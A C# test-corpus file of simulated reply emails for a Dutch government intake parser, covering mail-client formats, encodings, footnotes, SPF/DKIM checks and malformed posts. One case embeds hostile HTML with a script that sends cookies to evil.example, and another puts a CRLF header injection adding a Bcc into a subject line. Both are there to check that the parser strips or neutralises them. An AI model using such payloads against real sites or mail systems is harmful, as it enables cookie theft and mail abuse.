using System.Text;

namespace MigrationAgenda.TestSupport.Intake;

public static partial class IntakeCorpus
{
    private const string Jan = "Jan de Vries <j.devries@szw.example>";
    private const string Sub = "RE: Verzoek bijdrage Voortgang Integrale Migratieagenda – SZW";

    private static string OutlookHtml(string inner) =>
        "<html xmlns:o=\"urn:schemas-microsoft-com:office:office\"><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\">" +
        "<style><!-- p.MsoNormal {margin:0cm; font-size:11.0pt; font-family:\"Calibri\",sans-serif;} --></style></head>" +
        "<body lang=\"NL\"><div class=\"WordSection1\">" + inner + "</div></body></html>";

    private static string MsoP(string text) => $"<p class=\"MsoNormal\">{text}<o:p></o:p></p>";
    private const string MsoEmpty = "<p class=\"MsoNormal\"><o:p>&nbsp;</o:p></p>";

    private static IEnumerable<CorpusCase> ParsedCases()
    {
        var twoPillarText = Crlf($"Beste collega,\n\nHierbij de bijdrage van SZW.\n\nPijler 5\n\n{P5}\n\n{P5b}\n\nPijler 6\n\n{P6}\n\n") + SignatureSzw + "\r\n" + Disclaimer + "\r\n" + QuotedRequestOutlook;

        yield return new CorpusCase
        {
            File = "p01-outlook-two-pillars.txt",
            Description = "Outlook reply, text and HTML, 'Pijler N' headings, signature, disclaimer and Van:/Verzonden: quoted request",
            Ministry = "SZW", Owed = [5, 6],
            Expect = Accepted(new ExpectedSection(5, P5 + "\n\n" + P5b), new ExpectedSection(6, P6)) with { Mode = "Parsed", From = "j.devries@szw.example", Subject = Sub, EnvelopeTo = [ReplyTo], InReplyTo = "req-ima-2021-szw-1@migratieagenda.example" },
            Build = () => Parsed(Jan, Sub, twoPillarText, OutlookHtml(MsoP("Zie tekst.")), dkim: "{@szw.example : pass}").Build(),
        };

        var outlookHtml = OutlookHtml(
            MsoP("Beste collega,") + MsoEmpty + MsoP("Hierbij onze bijdrage.") + MsoEmpty +
            MsoP("<b>5. Bevorderen legale migratieroutes</b>") + MsoEmpty + MsoP(P5.Replace("‘", "&lsquo;", StringComparison.Ordinal).Replace("’", "&rsquo;", StringComparison.Ordinal)) + MsoEmpty +
            MsoP("<b>6. Bevorderen integratie en participatie</b>") + MsoEmpty + MsoP(P6.Replace("“", "&ldquo;", StringComparison.Ordinal)) + MsoEmpty +
            MsoP("Met vriendelijke groet,") + MsoEmpty + MsoP("Jan de Vries") + MsoP("Beleidsmedewerker") + MsoEmpty +
            "<div style=\"border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm\">" +
            "<p class=\"MsoNormal\"><b>Van:</b> Coördinatie Migratieagenda &lt;migratieagenda@jenv.example&gt; <br><b>Verzonden:</b> maandag 4 januari 2027 09:00<br><b>Aan:</b> Jan de Vries &lt;j.devries@szw.example&gt;<br><b>Onderwerp:</b> Verzoek bijdrage<o:p></o:p></p></div>" +
            MsoEmpty + MsoP("Beste collega,") + MsoP("Pijler 5") + MsoP("Geef een korte stand van zaken."));
        yield return new CorpusCase
        {
            File = "p02-outlook-html-only.txt",
            Description = "Outlook HTML only (MsoNormal, <o:p>, &nbsp; paragraphs, entities), 'N. Title' headings in bold, quoted header block",
            Ministry = "SZW", Owed = [5, 6],
            Expect = Accepted(new ExpectedSection(5, P5), new ExpectedSection(6, P6)),
            Build = () => Parsed(Jan, Sub, null, outlookHtml).Build(),
        };

        var gmailText = Crlf($"Pijler 1\n\n{Wrap(P1)}\n\n{Wrap(P1b)}\n\nPijler 2\n\n{Wrap(P2)}\n\nGroet,\nFatima\n\n" +
            "Op ma 4 jan. 2027 om 10:12 schreef Coördinatie Migratieagenda <\nmigratieagenda@jenv.example>:\n\n> Beste collega,\n>\n> Graag ontvangen wij uw bijdrage voor Pijler 1 en Pijler 2.\n>\n> Pijler 1\n> Geef een korte stand van zaken.\n");
        yield return new CorpusCase
        {
            File = "p03-gmail-wrapped-attribution.txt",
            Description = "Gmail plain text hard-wrapped at 72, 'Op … schreef …:' wrapped over two lines, '>' quotes, short 'Groet,' signature",
            Ministry = "BHOS", Owed = [1, 2],
            Expect = Accepted(new ExpectedSection(1, P1 + "\n\n" + P1b), new ExpectedSection(2, P2)) with { From = "fatima.elamrani@bhos.example" },
            Build = () => Parsed("Fatima El Amrani <fatima.elamrani@bhos.example>", "Re: Verzoek bijdrage", gmailText).Build(),
        };

        var gmailHtml = $"<div dir=\"ltr\"><div>Hoi,</div><div><br></div><div><b>Pijler 1</b></div><div><br></div><div>{P1}</div><div><br></div><div><b>Pijler 2</b></div><div>{P2}</div><div><br></div><div>Groet,</div><div>Fatima</div></div><br>" +
            "<div class=\"gmail_quote\"><div dir=\"ltr\" class=\"gmail_attr\">Op ma 4 jan. 2027 om 10:12 schreef Coördinatie Migratieagenda &lt;<a href=\"mailto:migratieagenda@jenv.example\">migratieagenda@jenv.example</a>&gt;:<br></div>" +
            "<blockquote class=\"gmail_quote\" style=\"margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex\">Beste collega,<br><br>Pijler 1<br>Geef een korte stand van zaken.</blockquote></div>";
        yield return new CorpusCase
        {
            File = "p04-gmail-html-only.txt",
            Description = "Gmail HTML only: <div> lines, <div><br></div> blank lines, gmail_quote blockquote",
            Ministry = "BHOS", Owed = [1, 2],
            Expect = Accepted(new ExpectedSection(1, P1), new ExpectedSection(2, P2)),
            Build = () => Parsed("Fatima El Amrani <fatima.elamrani@bhos.example>", "Re: Verzoek bijdrage", null, gmailHtml).Build(),
        };

        var appleText = Crlf($"{P4}\n\n{P4b}\n\nVerzonden vanaf mijn iPhone\n\n> Op 3 jan. 2027 om 10:12 heeft Coördinatie Migratieagenda <migratieagenda@jenv.example> het volgende geschreven:\n>\n> Beste collega, graag uw aangepaste tekst voor pijler 4.\n");
        yield return new CorpusCase
        {
            File = "p05-apple-mail-single-pillar.txt",
            Description = "Apple Mail from iPhone, one pillar requested (reopen of pillar 4), no heading, mobile footer, quoted attribution",
            Ministry = "BZ", Owed = [4],
            Expect = Accepted(new ExpectedSection(4, P4 + "\n\n" + P4b)) with { Absent = ["iPhone", "graag uw aangepaste"] },
            Build = () => Parsed("Pieter Bakker <p.bakker@bz.example>", "Re: Heropend: pijler 4", appleText).Build(),
        };

        var w1252Text = Crlf($"Pijler 5 – Bevorderen legale migratieroutes\n\n{P5}\n\nPijler 6 – Bevorderen integratie en participatie\n\n{P6}\n\n") + SignatureSzw;
        yield return new CorpusCase
        {
            File = "p06-windows-1252.txt",
            Description = "text field in Windows-1252 (charsets says windows-1252): é ë ’ ‘ – “ ” must survive; 'Pijler N – Title' headings",
            Ministry = "SZW", Owed = [5, 6],
            Expect = Accepted(new ExpectedSection(5, P5), new ExpectedSection(6, P6)),
            Build = () => Parsed(Jan, Sub, w1252Text, textEncoding: SendGridPost.Windows1252, charsetLabel: "windows-1252").Build(),
        };

        yield return new CorpusCase
        {
            File = "p07-iso-8859-1-label-with-cp1252-bytes.txt",
            Description = "Outlook labels the body iso-8859-1 but uses 0x92/0x96 for ’ and –: read as Windows-1252",
            Ministry = "SZW", Owed = [5],
            Expect = Accepted(new ExpectedSection(5, P5)),
            Build = () => Parsed(Jan, Sub, Crlf($"Beste,\n\n{P5}\n\n") + SignatureSzw, textEncoding: SendGridPost.Windows1252, charsetLabel: "iso-8859-1").Build(),
        };

        yield return new CorpusCase
        {
            File = "p08-iso-8859-1.txt",
            Description = "true ISO-8859-1 body with ë é ï",
            Ministry = "SZW", Owed = [6],
            Expect = Accepted(new ExpectedSection(6, P6Latin)),
            Build = () => Parsed(Jan, Sub, Crlf($"{P6Latin}\n\nGroeten,\nJan\n"), textEncoding: SendGridPost.Latin1, charsetLabel: "iso-8859-1").Build(),
        };

        var english = Crlf($"Dear colleague,\n\nPlease find our contribution below.\n\nPillar 4\n\n{P4}\n\nPillar 1\n\n{P1b}\n\nKind regards,\n\nPieter Bakker\nMinistry of Foreign Affairs\n\nOn Mon, Jan 4, 2027 at 10:12 AM Coördinatie Migratieagenda <migratieagenda@jenv.example> wrote:\n\n> Pijler 4\n");
        yield return new CorpusCase
        {
            File = "p09-english-on-wrote.txt",
            Description = "English client: 'Pillar N' headings, 'Kind regards,' signature, 'On … wrote:'",
            Ministry = "BZ", Owed = [1, 4],
            Expect = Accepted(new ExpectedSection(1, P1b), new ExpectedSection(4, P4)) with { Absent = ["Kind regards", "Ministry of Foreign Affairs", "wrote:"] },
            Build = () => Parsed("Pieter Bakker <p.bakker@bz.example>", "Re: Request", english).Build(),
        };

        var original = Crlf($"Pijler 5\n\n{P5}\n\n-----Oorspronkelijk bericht-----\nVan: migratieagenda@jenv.example\nVerzonden: maandag 4 januari 2027 09:00\nAan: j.devries@szw.example\nOnderwerp: Verzoek\n\nPijler 6\nGeef een korte stand van zaken.\n");
        yield return new CorpusCase
        {
            File = "p10-oorspronkelijk-bericht.txt",
            Description = "'-----Oorspronkelijk bericht-----' separator; the quoted request's 'Pijler 6' heading must not count",
            Ministry = "SZW", Owed = [5, 6],
            Expect = Accepted(new ExpectedSection(5, P5)),
            Build = () => Parsed(Jan, Sub, original).Build(),
        };

        var underscores = Crlf($"Pijler 6\n\n{P6}\n\nMet vriendelijke groeten,\nJan\n\n________________________________\nVan: Coördinatie Migratieagenda <migratieagenda@jenv.example>\nVerzonden: maandag 4 januari 2027 09:00\nAan: Jan de Vries\nOnderwerp: Verzoek\n\nPijler 5\nGeef een korte stand van zaken.\n");
        yield return new CorpusCase
        {
            File = "p11-underscore-separator.txt",
            Description = "Outlook Web '________________________________' separator followed by Van:",
            Ministry = "SZW", Owed = [5, 6],
            Expect = Accepted(new ExpectedSection(6, P6)),
            Build = () => Parsed(Jan, Sub, underscores).Build(),
        };

        yield return new CorpusCase
        {
            File = "p12-single-pillar-no-heading.txt",
            Description = "request for exactly one pillar, reply without heading: the text is that pillar's",
            Ministry = "SZW", Owed = [5],
            Expect = Accepted(new ExpectedSection(5, P5 + "\n\n" + P5b)),
            Build = () => Parsed(Jan, Sub, Crlf($"Beste Karin,\n\nHierbij onze tekst voor de voortgangsbrief.\n\n{P5}\n\n{P5b}\n\n") + SignatureSzw).Build(),
        };

        yield return new CorpusCase
        {
            File = "p13-several-pillars-no-headings.txt",
            Description = "two pillars owed, no headings: ambiguous, rejected",
            Ministry = "SZW", Owed = [5, 6],
            Expect = Rejected("Ambiguous", new() { OwedPillars = [5, 6] }),
            Build = () => Parsed(Jan, Sub, Crlf($"Beste Karin,\n\n{P5}\n\n{P6}\n\n") + SignatureSzw).Build(),
        };

        var mdFootnotes = Crlf($"Pijler 2\n\n{P2}\n\n{P2Fn}\n\n[^1]: {Fn1}\n\nPijler 1\n\n{P1}\n\nMet vriendelijke groet,\nFatima El Amrani\n");
        yield return new CorpusCase
        {
            File = "p14-markdown-footnotes.txt",
            Description = "Markdown footnote [^1] with its definition at the end of the pillar 2 section",
            Ministry = "BHOS", Owed = [1, 2],
            Expect = Accepted(new ExpectedSection(1, P1), new ExpectedSection(2, P2 + "\n\n" + P2Fn, [new("1", Fn1)])),
            Build = () => Parsed("Fatima El Amrani <fatima.elamrani@bhos.example>", "Re: Verzoek bijdrage", mdFootnotes).Build(),
        };

        var voetnoten = Crlf($"Pijler 4\n\n{P4}\n\n{P4Fn}\n\nPijler 1\n\n{P1b}[^13]\n\nVoetnoten:\n[^12] {Fn12}\n[^13] Kamerstukken II 2019/20, 19637, nr. 2623.\n\nMet vriendelijke groet,\nPieter Bakker\n");
        yield return new CorpusCase
        {
            File = "p15-voetnoten-block.txt",
            Description = "'Voetnoten:' block at the end of the mail; each section gets the notes it references",
            Ministry = "BZ", Owed = [1, 4],
            Expect = Accepted(new ExpectedSection(1, P1b + "[^13]", [new("13", "Kamerstukken II 2019/20, 19637, nr. 2623.")]), new ExpectedSection(4, P4 + "\n\n" + P4Fn, [new("12", Fn12)])),
            Build = () => Parsed("Pieter Bakker <p.bakker@bz.example>", "Re: Verzoek", voetnoten).Build(),
        };

        yield return new CorpusCase
        {
            File = "p16-not-owed-pillar.txt",
            Description = "SZW also writes a section for pillar 3, which it does not owe: reported, not dropped silently",
            Ministry = "SZW", Owed = [5, 6],
            Expect = Accepted(new ExpectedSection(5, P5)) with { NotOwed = [3] },
            Build = () => Parsed(Jan, Sub, Crlf($"Pijler 5\n\n{P5}\n\nPijler 3\n\nOok over asiel hebben wij een opmerking.\n\n") + SignatureSzw).Build(),
        };

        yield return new CorpusCase
        {
            File = "p17-only-not-owed.txt",
            Description = "only a pillar the ministry does not owe",
            Ministry = "SZW", Owed = [5, 6],
            Expect = Rejected("NotOwed", new() { Pillars = [3], OwedPillars = [5, 6] }) with { NotOwed = [3] },
            Build = () => Parsed(Jan, Sub, Crlf("Pijler 3\n\nOok over asiel hebben wij een opmerking.\n")).Build(),
        };

        foreach (var (n, id) in new[] { (1, "<resub-1@szw.example>"), (2, "<resub-2@szw.example>") })
        {
            yield return new CorpusCase
            {
                File = $"p18-resubmission-{n}.txt",
                Description = $"the same contribution sent twice (copy {n}): same sections, different Message-Id",
                Ministry = "SZW", Owed = [5, 6],
                Expect = Accepted(new ExpectedSection(5, P5 + "\n\n" + P5b), new ExpectedSection(6, P6)) with { MessageId = id.Trim('<', '>') },
                Build = () => Parsed(Jan, Sub, twoPillarText, messageId: id).Build(),
            };
        }

        var txt = SendGridPost.Windows1252.GetBytes(Crlf($"Pijler 5\n\n{P5}\n\nPijler 6\n\n{P6}\n"));
        yield return new CorpusCase
        {
            File = "p19-txt-attachment-cp1252.txt",
            Description = "contribution in a .txt attachment written in Windows-1252 (no charset); the body is a covering note",
            Ministry = "SZW", Owed = [5, 6],
            Expect = Accepted(new ExpectedSection(5, P5), new ExpectedSection(6, P6)) with { Note = "Zie bijlage. De cijfers over 2020 zijn voorlopig.", NoteReason = "Covering" },
            Build = () => WithFiles(Parsed(Jan, Sub, Crlf("Beste Karin,\n\nZie bijlage. De cijfers over 2020 zijn voorlopig.\n\n") + SignatureSzw),
                ("bijdrage-szw.txt", "text/plain", txt)).Build(),
        };

        yield return new CorpusCase
        {
            File = "p20-pdf-only.txt",
            Description = "only a PDF attachment and 'Zie bijlage.': nothing readable, rejected as empty, PDF listed",
            Ministry = "SZW", Owed = [5, 6],
            Expect = Rejected("Empty", new() { FileNames = ["bijdrage.pdf"] }) with { OtherAttachments = ["bijdrage.pdf"] },
            Build = () => WithFiles(Parsed(Jan, Sub, Crlf("Zie bijlage.\n\n") + SignatureSzw), ("bijdrage.pdf", "application/pdf", Encoding.ASCII.GetBytes("%PDF-1.7\n%âãÏÓ\n1 0 obj\n<<>>\nendobj\n%%EOF\n"))).Build(),
        };

        yield return new CorpusCase
        {
            File = "p21-wrong-sender.txt",
            Description = "a private address not on the allow-list (SPF passes for it: an explanation may be sent)",
            Ministry = "SZW", Owed = [5],
            Expect = Accepted(new ExpectedSection(5, P5)) with { Sender = "NotOnAllowList", MayReply = true },
            Build = () => Parsed("Jan de Vries <jandevries1970@mail.example>", Sub, Crlf($"{P5}\n")).Build(),
        };

        yield return new CorpusCase
        {
            File = "p22-subdomain-sender.txt",
            Description = "a subdomain of the allowed domain (ext.szw.example) is not on the list 'szw.example'",
            Ministry = "SZW", Owed = [5],
            Expect = Accepted(new ExpectedSection(5, P5)) with { Sender = "NotOnAllowList", MayReply = true },
            Build = () => Parsed("Extern <iemand@ext.szw.example>", Sub, Crlf($"{P5}\n")).Build(),
        };

        yield return new CorpusCase
        {
            File = "p23-spf-dkim-fail.txt",
            Description = "spoofed From on the allow-list: SPF fail and DKIM fail: no contribution and no reply (backscatter)",
            Ministry = "SZW", Owed = [5],
            Expect = Accepted(new ExpectedSection(5, P5)) with { Sender = "AuthenticationFailed", MayReply = false },
            Build = () => Parsed(Jan, Sub, Crlf($"{P5}\n"), spf: "fail", dkim: "{@szw.example : fail}", envelopeFrom: "j.devries@szw.example").Build(),
        };

        yield return new CorpusCase
        {
            File = "p24-dkim-pass-spf-softfail.txt",
            Description = "forwarded through a relay: SPF softfail but DKIM pass for the From domain (among several signatures)",
            Ministry = "SZW", Owed = [5],
            Expect = Accepted(new ExpectedSection(5, P5)),
            Build = () => Parsed(Jan, Sub, Crlf($"{P5}\n"), spf: "softfail", dkim: "{@relay.example : fail, @szw.example : pass}").Build(),
        };

        yield return new CorpusCase
        {
            File = "p25-dkim-third-party-only.txt",
            Description = "DKIM pass only for a third party's domain and SPF none: not authenticated for szw.example",
            Ministry = "SZW", Owed = [5],
            Expect = Accepted(new ExpectedSection(5, P5)) with { Sender = "AuthenticationFailed", MayReply = false },
            Build = () => Parsed(Jan, Sub, Crlf($"{P5}\n"), spf: "none", dkim: "{@bulkmailer.example : pass}").Build(),
        };

        yield return new CorpusCase
        {
            File = "p26-spf-pass-misaligned.txt",
            Description = "SPF pass, but for an attacker's envelope domain, not the From domain; DKIM none",
            Ministry = "SZW", Owed = [5],
            Expect = Accepted(new ExpectedSection(5, P5)) with { Sender = "AuthenticationFailed", MayReply = false },
            Build = () => Parsed(Jan, Sub, Crlf($"{P5}\n"), spf: "pass", dkim: "none", envelopeFrom: "bounce@attacker.example").Build(),
        };

        const string forged = "reply+ima-2021.szw.1.k3f.zzzzzzzzzzzzz@inbound.migratieagenda.example";
        yield return new CorpusCase
        {
            File = "p27-forged-token.txt",
            Description = "a made-up token in the reply address: parsed faithfully (the token check refuses it, not the parser)",
            Ministry = "SZW", Owed = [5],
            Expect = Accepted(new ExpectedSection(5, P5)) with { EnvelopeTo = [forged] },
            Build = () => Parsed(Jan, Sub, Crlf($"{P5}\n"), to: forged).Build(),
        };

        const string altered = "reply+ima-2021.bz.1.k3f.abcdefghijklm@inbound.migratieagenda.example";
        yield return new CorpusCase
        {
            File = "p28-altered-token.txt",
            Description = "SZW's token with the ministry changed to bz (the HMAC no longer matches): kept as delivered",
            Ministry = "SZW", Owed = [5],
            Expect = Accepted(new ExpectedSection(5, P5)) with { EnvelopeTo = [altered] },
            Build = () => Parsed(Jan, Sub, Crlf($"{P5}\n"), to: altered).Build(),
        };

        yield return new CorpusCase
        {
            File = "p29-missing-from.txt",
            Description = "no 'from' field",
            Ministry = "SZW", Owed = [5],
            Expect = new CorpusExpectation { ParseError = "MissingFrom" },
            Build = () => new SendGridPost().Field("to", ReplyTo).Field("subject", "x").Field("text", P5).Field("SPF", "pass").Build(),
        };

        yield return new CorpusCase
        {
            File = "p30-bad-envelope-json.txt",
            Description = "envelope is not JSON",
            Ministry = "SZW", Owed = [5],
            Expect = new CorpusExpectation { ParseError = "InvalidEnvelope" },
            Build = () => new SendGridPost().Field("from", Jan).Field("to", ReplyTo).Field("text", P5).Field("envelope", "{\"to\":[\"reply+x@inbound").Build(),
        };

        yield return new CorpusCase
        {
            File = "p31-bad-charsets-json.txt",
            Description = "charsets is not JSON",
            Ministry = "SZW", Owed = [5],
            Expect = new CorpusExpectation { ParseError = "InvalidCharsets" },
            Build = () => new SendGridPost().Field("from", Jan).Field("to", ReplyTo).Field("text", P5).Field("charsets", "text=utf-8").Build(),
        };

        yield return new CorpusCase
        {
            File = "p32-no-body.txt",
            Description = "no text, no html, no attachments",
            Ministry = "SZW", Owed = [5],
            Expect = new CorpusExpectation { ParseError = "NoContent" },
            Build = () => new SendGridPost().Field("from", Jan).Field("to", ReplyTo).Field("subject", "Re: Verzoek").Field("text", "").Field("attachments", "0").Build(),
        };

        yield return new CorpusCase
        {
            File = "p33-truncated-multipart.txt",
            Description = "the post is cut off in the middle of the text field (no closing boundary)",
            Ministry = "SZW", Owed = [5],
            Expect = new CorpusExpectation { ParseError = "Truncated" },
            Build = () =>
            {
                var full = Parsed(Jan, Sub, Crlf($"{P5}\n{P5b}\n")).Build();
                return full[..(full.Length / 2)];
            },
        };

        var hostileHtml = "<html><head><style>body{background:url(javascript:alert(1))}</style><script>alert('style')</script></head>" +
            "<body onload=\"steal()\"><!-- verborgen opmerking --><p>Pijler 5</p><p>" + P5 + "<script>document.location='https://evil.example/?c='+document.cookie</script></p>" +
            "<p style=\"display:none\">verborgen preheader tekst</p><noscript>zet javascript aan</noscript><iframe src=\"https://evil.example\"></iframe>" +
            "<p>Pijler 6</p><p>" + P6 + "<img src=\"https://tracker.example/p.gif\" onerror=\"x()\"></p></body></html>";
        yield return new CorpusCase
        {
            File = "p34-script-in-html.txt",
            Description = "HTML only with script, style, comment, hidden text, iframe, event handlers: none of it survives",
            Ministry = "SZW", Owed = [5, 6],
            Expect = Accepted(new ExpectedSection(5, P5), new ExpectedSection(6, P6)) with { Absent = ["alert", "document", "verborgen", "javascript", "evil", "tracker", "steal"] },
            Build = () => Parsed(Jan, Sub, null, hostileHtml).Build(),
        };

        yield return new CorpusCase
        {
            File = "p35-header-injection-subject.txt",
            Description = "CR/LF in the subject (header injection attempt) is neutralised to one line",
            Ministry = "SZW", Owed = [5],
            Expect = Accepted(new ExpectedSection(5, P5)) with { Subject = "Re: bijdrage Bcc: slachtoffer@example.org X-Injected: 1" },
            Build = () => Parsed(Jan, "Re: bijdrage\r\nBcc: slachtoffer@example.org\r\nX-Injected: 1", Crlf($"{P5}\n")).Build(),
        };

        yield return new CorpusCase
        {
            File = "p36-too-many-attachments.txt",
            Description = "21 attachments (limit 20)",
            Ministry = "SZW", Owed = [5],
            Expect = new CorpusExpectation { ParseError = "TooManyAttachments" },
            Build = () =>
            {
                var post = Parsed(Jan, Sub, Crlf($"{P5}\n"));
                for (var i = 1; i <= 21; i++) post.File($"attachment{i}", $"foto{i}.png", "image/png", [0x89, 0x50, 0x4E, 0x47, (byte)i]);
                return post.Build();
            },
        };

        var groetMid = Crlf($"Pijler 6\n\n{P6}\n\nIn de handreiking staat een persoonlijke groet van de minister aan alle gemeenten; met vriendelijke groet aan de wethouders werd de campagne afgesloten.\n\nGroet,\nJan\n");
        yield return new CorpusCase
        {
            File = "p37-groet-mid-paragraph.txt",
            Description = "'groet' inside a paragraph is contribution text; only the closing 'Groet,' line and name go",
            Ministry = "SZW", Owed = [6],
            Expect = Accepted(new ExpectedSection(6, P6 + "\n\nIn de handreiking staat een persoonlijke groet van de minister aan alle gemeenten; met vriendelijke groet aan de wethouders werd de campagne afgesloten.")) with { Absent = ["\nJan", "Groet,"] },
            Build = () => Parsed(Jan, Sub, groetMid).Build(),
        };

        var dashSig = Crlf($"## Pijler 5\n\n{P5}\n\n**Pijler 6**\n\n{P6}\n\n-- \nJan de Vries | SZW | 070 333 44 44\n");
        yield return new CorpusCase
        {
            File = "p38-markdown-headings-dash-signature.txt",
            Description = "Markdown-decorated headings ('## Pijler 5', '**Pijler 6**') and an RFC 3676 '-- ' signature",
            Ministry = "SZW", Owed = [5, 6],
            Expect = Accepted(new ExpectedSection(5, P5), new ExpectedSection(6, P6)) with { Absent = ["070 333"] },
            Build = () => Parsed(Jan, Sub, dashSig).Build(),
        };

        var titleOnly = Crlf($"Bevorderen legale migratieroutes\n\n{P5}\n\nBevorderen integratie en participatie:\n\n{P6}\n\n") + SignatureSzw;
        yield return new CorpusCase
        {
            File = "p39-title-only-headings.txt",
            Description = "headings are the pillar titles alone (case and punctuation ignored)",
            Ministry = "SZW", Owed = [5, 6],
            Expect = Accepted(new ExpectedSection(5, P5), new ExpectedSection(6, P6)),
            Build = () => Parsed(Jan, Sub, titleOnly).Build(),
        };

        var wrappedTitle = Crlf($"2. Versterken opvang en bescherming voor vluchtelingen en ontheemden in de\nregio\n\n{P2}\n\n1. Voorkomen irreguliere migratie\n\n{P1}\n\nDe campagnes liepen in:\n1. Nigeria\n2. Mali\n\nMet vriendelijke groet,\nFatima\n");
        yield return new CorpusCase
        {
            File = "p40-numbered-headings-wrapped-title.txt",
            Description = "'N. Title' headings, one wrapped over two lines as in the letter; a numbered list inside the text is not a heading",
            Ministry = "BHOS", Owed = [1, 2],
            Expect = Accepted(new ExpectedSection(1, P1 + "\n\nDe campagnes liepen in:\n1. Nigeria\n2. Mali"), new ExpectedSection(2, P2)),
            Build = () => Parsed("Fatima El Amrani <fatima.elamrani@bhos.example>", "Re: Verzoek bijdrage", wrappedTitle).Build(),
        };
    }

    private static SendGridPost WithFiles(SendGridPost post, params (string Name, string Type, byte[] Content)[] files)
    {
        var info = new StringBuilder("{");
        for (var i = 0; i < files.Length; i++)
        {
            post.File($"attachment{i + 1}", files[i].Name, files[i].Type, files[i].Content);
            info.Append(i == 0 ? "" : ",").Append($"\"attachment{i + 1}\":{{\"filename\":\"{files[i].Name}\",\"name\":\"{files[i].Name}\",\"type\":\"{files[i].Type}\"}}");
        }
        return post.Field("attachment-info", info.Append('}').ToString());
    }

    private static string Wrap(string s) => SendGridPost.Wrap(s);
}
